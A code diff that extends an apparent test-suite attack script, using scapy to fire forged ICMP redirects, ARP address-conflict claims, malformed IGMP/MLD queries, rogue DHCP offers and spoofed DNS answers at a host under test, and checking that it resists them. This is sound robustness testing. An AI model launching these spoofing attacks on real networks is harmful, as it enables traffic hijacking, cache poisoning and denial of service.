@@ -1,8 +1,9 @@
 """What the suite `attacks` fires that no packaged tool does, and the peer that must notice nothing.
 
 Called by: `cargo xtask interop attacks`, in the namespace of the host at the other end of a TAP:
-    attacker.py peer STOP           echo data until the file STOP is there; the last line says how much
-    attacker.py NAME [STATE]        one attack; STATE is a file in which the peer says who it is
+    attacker.py peer STOP STATE OURS6   echo data until the file STOP is there; the last line says how much
+    attacker.py NAME [STATE [OURS6]]    one attack; STATE is a file in which the peer says who it is
+    attacker.py name_server READY, attacker.py rogue_dhcp_server    servers, until they are killed
 Each attack prints one line, what it saw, and exits with 1 if that is not what it should be.
 It needs scapy (Debian package python3-scapy) for everything but `peer`. Counts are bounded.
 """
@@ -462,10 +463,197 @@ def neighbours6(wire, _):
     seen("6000 solicitations, each from another neighbour")
 
 
+# Attacks on what configures a host.
+
+def redirects(wire, _):
+    from scapy.all import ICMP, IP, UDP, raw
+    # Of a stranger, of the gateway about a host of the link, of the gateway to a stranger's network.
+    quoted = {far: raw(IP(src=OURS, dst=far) / UDP(sport=7, dport=9) / bytes(8))
+              for far in ("203.0.113.1", "10.9.0.7")}
+    forged = [("10.9.0.99", MINE, "203.0.113.1"), (KERNEL, MINE, "10.9.0.7"),
+              (KERNEL, "198.51.100.1", "203.0.113.1"), (KERNEL, OURS, "203.0.113.1"),
+              ("203.0.113.9", MINE, "203.0.113.1")]
+    for _ in range(50):
+        for src, gateway, far in forged:
+            for code in range(4):
+                wire.send(IP(src=src, dst=OURS) / ICMP(type=5, code=code, gw=gateway) / quoted[far])
+    seen("%d redirects" % (50 * 4 * len(forged)))
+
+
+def conflicts(wire, _):
+    from scapy.all import ARP, Ether
+    def defence(frame):
+        return ARP in frame and frame[ARP].psrc == OURS and frame[ARP].pdst == OURS
+    everybody = "ff:ff:ff:ff:ff:ff"
+    for n in range(60):
+        for op in (1, 2):
+            wire.socket.send(Ether(src=MY_MAC, dst=everybody) / ARP(
+                op=op, hwsrc=MY_MAC, psrc=OURS, hwdst=everybody, pdst=OURS))
+        time.sleep(0.02)
+    heard = wire.hear(0.5, defence)
+    seen("120 claims of our address, %d announcements against them" % len(heard), 1 <= len(heard) <= 3)
+
+
+def group_queries(wire, _):
+    """The rate of answers is what counts; a port without groups has none."""
+    from scapy.all import Ether, IP, IPOption, IPv6, IPv6ExtHdrHopByHop, Raw, RouterAlert, in6_chksum
+    def report(frame):
+        return (IP in frame and frame[IP].proto == 2 and frame[IP].src == OURS) or (
+            IPv6 in frame and frame[IPv6].nh == 0 and bytes(frame)[-4:] and frame[IPv6].src.startswith("fe80"))
+    alert = IPOption(b"\x94\x04\x00\x00")
+    def igmp(body):
+        body = body[:2] + struct.pack("!H", internet_sum(body)) + body[4:]
+        return Ether(src=MY_MAC, dst="01:00:5e:00:00:01") / IP(
+            src=KERNEL, dst="224.0.0.1", ttl=1, proto=2, options=[alert]) / Raw(body)
+    def mld(body, src="fe80::66"):
+        total = in6_chksum(58, IPv6(src=src, dst="ff02::1"), body)
+        body = body[:2] + struct.pack("!H", total) + body[4:]
+        return Ether(src=MY_MAC, dst="33:33:00:00:00:01") / IPv6(
+            src=src, dst="ff02::1", hlim=1) / IPv6ExtHdrHopByHop(
+            nh=58, options=[RouterAlert(otype=5, value=0)]) / Raw(body)
+    # Maximum response time 0, robustness 7, interval 0 and the largest, older versions, sources
+    # where there may be none, more than there are, a source that is not on the link.
+    head = bytes([0x11, 0, 0, 0]) + bytes(4)
+    queries = [igmp(head), igmp(bytes([0x11, 1, 0, 0]) + bytes(4)), igmp(head + bytes([7, 0, 0, 0])),
+               igmp(head + bytes([15, 255, 0, 0])), igmp(head + bytes([2, 125, 255, 255])), igmp(head + bytes([2, 125, 0, 200]) + bytes(800))]
+    head = bytes([130, 0, 0, 0]) + bytes(4) + bytes(16)
+    queries += [mld(head), mld(head + bytes([7, 0, 0, 0])), mld(head + bytes([7, 255, 0, 0])),
+                mld(head + bytes([2, 125, 255, 255])), mld(head + bytes([2, 125, 0, 60]) + bytes(960)), mld(head, "2001:db8::66")]
+    queries = [Raw(bytes(query)) for query in queries]
+    begun = time.monotonic()
+    for _ in range(400):
+        for query in queries:
+            wire.socket.send(query)
+    heard = wire.hear(1.0, report, others=True)
+    most = 100 * (time.monotonic() - begun + 2)
+    seen("%d queries, %d reports" % (400 * len(queries), len(heard)), len(heard) <= most)
+
+
+def internet_sum(data):
+    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while total >> 16:
+        total = (total & 0xffff) + (total >> 16)
+    return ~total & 0xffff
+
+
+def dhcp_options():
+    """Options that no client may believe, or read past."""
+    yield b""
+    yield b"\xff"
+    yield bytes([53, 1, 2])
+    yield bytes([53, 1, 2, 51, 4, 0, 0, 0, 0, 1, 4, 255, 255, 255, 0, 54, 4, 10, 9, 0, 1, 255])
+    yield bytes([53, 1, 2, 51, 200, 0, 0, 255])
+    yield bytes([53, 255]) + bytes(10)
+    yield bytes([53, 1, 2, 52, 1, 3, 255])
+    yield bytes([53, 1, 2, 54, 4, 255, 255, 255, 255, 51, 4, 0, 0, 1, 0, 255])
+    yield bytes([53, 1, 2, 119, 4, 0xc0, 0, 0xc0, 0, 255])
+    yield bytes([53, 1, 2]) + bytes([121, 255]) + bytes(255) + b"\xff"
+    yield bytes(3_000) + b"\xff"
+
+
+def dhcp_reply(xid, hardware, options, address="224.0.0.5"):
+    head = struct.pack("!BBBBIHH", 2, 1, 6, 0, xid, 0, 0)
+    head += bytes(4) + socket.inet_aton(address) + bytes(8) + hardware + bytes(10) + bytes(192)
+    return head + b"\x63\x82\x53\x63" + options
+
+
+def rogue_dhcp_messages(wire, _):
+    from scapy.all import Ether, IP, UDP
+    hardware = bytes.fromhex(wire.mac.replace(":", ""))
+    rng, sent = random.Random(68), 0
+    for _ in range(60):
+        for kind in (2, 5, 6):
+            for options in dhcp_options():
+                message = dhcp_reply(rng.getrandbits(32), hardware, options.replace(b"5\x01\x02", bytes([53, 1, kind])))
+                for dst, to in ((OURS, wire.mac), ("255.255.255.255", "ff:ff:ff:ff:ff:ff")):
+                    packet = IP(src=KERNEL, dst=dst) / UDP(sport=67, dport=68) / message[:1_400]
+                    wire.socket.send(Ether(src=MY_MAC, dst=to) / packet)
+                    sent += 1
+    seen("%d forged messages" % sent)
+
+
+def rogue_dhcp_server():
+    """Answers each discovery with offers of the right transaction that are of no use."""
+    from scapy.all import BOOTP, Ether, IP, UDP, conf, get_if_hwaddr, sniff
+    conf.verb = 0
+    sending, own = conf.L2socket(iface=DEV), get_if_hwaddr(DEV)
+
+    def offer(frame):
+        asked = frame[BOOTP]
+        good = bytes([53, 1, 2, 51, 4, 0, 0, 14, 16, 1, 4, 255, 255, 255, 0, 54, 4, 10, 9, 0, 1, 255])
+        replies = [dhcp_reply(asked.xid, asked.chaddr[:6], options) for options in dhcp_options()]
+        replies += [dhcp_reply(asked.xid, asked.chaddr[:6], good, address)
+                    for address in ("0.0.0.0", "127.0.0.1", "255.255.255.255", "240.0.0.1")]
+        for reply in replies:
+            packet = IP(src=KERNEL, dst="255.255.255.255") / UDP(sport=67, dport=68) / reply[:1_400]
+            sending.send(Ether(src=own, dst="ff:ff:ff:ff:ff:ff") / packet)
+
+    sniff(iface=DEV, prn=offer, store=False,
+          lfilter=lambda frame: BOOTP in frame and frame[BOOTP].op == 1)
+
+
+def name_server(ready):
+    """Answers each question wrongly in every way, and then rightly; over TCP rightly alone."""
+    def listen(port, kind=socket.SOCK_DGRAM):
+        bound = socket.socket(socket.AF_INET, kind)
+        bound.bind((KERNEL, port))
+        return bound
+
+    def answer(number, question, records, count=1):
+        return struct.pack("!HHHHHH", number, 0x8580, 1, count, 0, 0) + question + records
+
+    def address(of):
+        return b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 600, 4) + socket.inet_aton(of)
+
+    def parts(asked):
+        end = 12 + asked[12:].index(0) + 5
+        question = asked[12:end]
+        return struct.unpack("!H", asked[:2])[0], question, struct.unpack("!H", question[-4:-2])[0]
+
+    def right(asked):
+        number, question, kind = parts(asked)
+        return answer(number, question, address(KERNEL)) if kind == 1 else answer(number, question, b"", 0)
+
+    def serve_tcp(listener):
+        while True:
+            stream, _ = listener.accept()
+            asked = stream.recv(4_096)
+            message = right(asked[2:])
+            stream.sendall(struct.pack("!H", len(message)) + message)
+            print("a question over TCP", flush=True)
+            stream.close()
+
+    server, stranger, tcp = listen(53), listen(5_353), listen(53, socket.SOCK_STREAM)
+    tcp.listen()
+    threading.Thread(target=serve_tcp, args=(tcp,), daemon=True).start()
+    open(ready, "w").close()
+    while True:
+        asked, client = server.recvfrom(4_096)
+        number, question, kind = parts(asked)
+        evil = address("10.9.0.66")
+        forged = [answer((number + n) % 2**16, question, evil) for n in range(1, 8)]
+        # Another question, loops of compression, no message; at last the name in other letters.
+        forged += [answer(number, b"\x05other" + question[question[0] + 1:], evil),
+                   answer(number, b"\xc0\x0c" + question[-4:], evil),
+                   answer(number, b"\xc0\x0d" + question[-4:], evil), b"\xff" * 7, b""]
+        if kind == 1:
+            forged.append(answer(number, question.swapcase()[:-4] + question[-4:], evil))
+        stranger.sendto(answer(number, question, evil), client)
+        for message in forged:
+            server.sendto(message, client)
+        server.sendto(right(asked), client)
+        print("a question of type %d, %d forged answers" % (kind, len(forged) + 1), flush=True)
+
+
 def main():
+    global OURS6
     name = sys.argv[1]
-    if name == "peer":
-        return peer(sys.argv[2], sys.argv[3])
+    if name in ("peer", "name_server"):
+        OURS6 = sys.argv[4] if len(sys.argv) > 4 else OURS6
+        return globals()[name](*sys.argv[2:4])
+    if name == "rogue_dhcp_server":
+        return rogue_dhcp_server()
+    OURS6 = sys.argv[3] if len(sys.argv) > 3 else OURS6
     import logging
     logging.getLogger("scapy").setLevel(logging.ERROR)
     attack = globals()[name]
